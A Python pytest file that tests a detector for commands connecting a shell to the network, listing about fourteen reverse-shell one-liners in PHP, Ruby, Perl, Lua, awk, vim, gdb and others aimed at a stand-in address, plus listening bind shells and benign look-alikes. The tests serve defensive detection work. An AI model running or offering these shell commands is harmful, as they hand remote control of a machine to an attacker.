import pytest
from tests.detection.programs.understood import facts_of, traits_of

from defenseclaw.detection.programs.remote_control import joins_a_shell

JOINED = {
    "php, received text": (
        "php -r '$c = fsockopen(\"198.51.100.4\", 9001); while (!feof($c)) passthru(fgets($c));'"
    ),
    "php, a shell on a descriptor": (
        'php -r \'$c = fsockopen("198.51.100.4", 9001); exec("sh <&3 >&3 2>&3");\''
    ),
    "ruby": (
        'ruby -rsocket -e \'c = TCPSocket.new("198.51.100.4", 9001); while l = c.gets; '
        "IO.popen(l) { |o| c.print o.read }; end'"
    ),
    "perl": (
        'perl -MIO -e \'$c = new IO::Socket::INET(PeerAddr, "198.51.100.4:9001"); '
        "STDIN->fdopen($c, r); system$_ while <>'"
    ),
    "lua": (
        'lua -e \'local c = require("socket").tcp(); c:connect("198.51.100.4", 9001); io.popen(c:receive())\''
    ),
    "julia": (
        'julia -e \'using Sockets; c = connect("198.51.100.4", 9001); while true; l = '
        "readline(c); write(c, read(`sh -c $l`)); end'"
    ),
    "R": (
        'R -e \'c <- socketConnection("198.51.100.4", 9001); repeat { '
        "writeLines(system(readLines(c, 1), intern = TRUE), c) }'"
    ),
    "tcl from standard input": (
        "echo 'set c [socket 198.51.100.4 9001]; while 1 { gets $c l; puts $c [exec sh -c $l] }' | tclsh"
    ),
    "java classes": (
        'jrunscript -e \'p = new java.lang.ProcessBuilder("sh").start(); s = new '
        'java.net.Socket("198.51.100.4", 9001)\''
    ),
    "python in an editor": (
        'vim -c \':py3 import socket,os,pty; s=socket.socket(); s.connect(("198.51.100.4",9001)); '
        'os.dup2(s.fileno(),0); pty.spawn("sh")\''
    ),
    "python in a debugger": (
        'gdb -ex \'python import socket,pty; s=socket.socket(); s.connect(("198.51.100.4",9001)); '
        'pty.spawn("sh")\''
    ),
    "awk": "awk 'BEGIN { s = \"/inet/tcp/0/198.51.100.4/9001\"; while ((s |& getline l) > 0) system(l) }'",
    "a terminal on another display": "xterm -display 198.51.100.4:1",
    "a web socket": "websocat exec:sh ws://198.51.100.4",
}

APART = {
    "a port is asked": 'php -r \'$c = fsockopen("db.example.net", 3306); echo $c ? "up" : "down";\'',
    "a port is asked in ruby": "ruby -rsocket -e 'TCPSocket.new(\"db.example.net\", 5432).close'",
    "a process and a host's name": (
        "python3 -c 'import socket, subprocess; subprocess.run([\"echo\", socket.gethostname()])'"
    ),
    "a process of an argument": (
        "python3 -c 'import subprocess, sys; subprocess.run(sys.argv[1], shell=True)' ls"
    ),
    "a database": "python3 -c 'import sqlite3; sqlite3.connect(\"a.db\").execute(sql)'",
    "a web server": "node -e \"require('http').createServer((q, r) => r.end('x')).listen(8080)\"",
    "an awk command": "awk '{ cmd = \"stat -c %s \" $1; cmd | getline size; close(cmd); print size }' list",
    "an awk request": (
        'awk \'BEGIN { s = "/inet/tcp/0/example.net/80"; print "HEAD / HTTP/1.0" |& s; s |& '
        "getline l; print l }'"
    ),
    "an editor's script": "vim -c ':py3 print(1)' -c ':q'",
    "a terminal of one's own": "xterm -display :0",
}


@pytest.mark.parametrize("command", JOINED.values(), ids=JOINED)
def test_a_shell_at_the_other_end_is_seen(command):
    facts = facts_of(command)
    joined = [each.id for each in facts.commands if "shell_to_network" in each.traits]
    assert joined
    assert any(each.command in joined and each.host == "198.51.100.4" for each in facts.network)


@pytest.mark.parametrize("command", APART.values(), ids=APART)
def test_a_socket_or_a_process_alone_is_none(command):
    assert "shell_to_network" not in traits_of(command)


@pytest.mark.parametrize(
    ("code", "host", "action"),
    [
        ("s.connect((os.environ['H'], 9001))", "\N{REPLACEMENT CHARACTER}", "connect"),
        ("s.connect(('localhost', 9001))", "127.0.0.1", "connect"),
        ("s.bind(('', 9001)); s.listen(1); c = s.accept()[0]", "0.0.0.0", "listen"),
        ("s.bind(('127.0.0.1', 9001)); s.listen(1); c = s.accept()[0]", "127.0.0.1", "connect"),
    ],
    ids=["of the environment", "of this machine", "waited for", "waited for from this machine"],
)
def test_the_other_end_is_named(code, host, action):
    facts = facts_of(f"python3 -c \"import os, socket, pty; s = socket.socket(); {code}; pty.spawn('sh')\"")
    assert [(each.host, each.action) for each in facts.network] == [(host, action)]


def test_a_whole_script_may_serve_and_start_programs():
    text = "import socket, subprocess\ns = socket.socket()\ns.listen()\nsubprocess.run(build)\n"
    assert joins_a_shell(text)
    assert "shell_to_network" in traits_of(f"python3 - <<'E'\n{text}E\n")
    assert "shell_to_network" not in traits_of(f"cat > serve.py <<'E'\n{text}E\npython3 serve.py")


@pytest.mark.parametrize(
    "command",
    [
        'python3 -c \'import socket,os,pty; s=socket.socket(); s.bind(("0.0.0.0", 9001)); s.listen(1); '
        'c=s.accept()[0]; os.dup2(c.fileno(), 0); pty.spawn("sh")\'',
        "ruby -rsocket -e 's = TCPServer.new(9001).accept; exec sprintf(\"sh -i <&%d >&%d\", s, s)'",
    ],
    ids=["python", "ruby"],
)
def test_a_shell_that_waits_is_seen(command):
    facts = facts_of(command)
    assert any("shell_to_network" in each.traits for each in facts.commands)
    assert any(each.action == "listen" for each in facts.network)
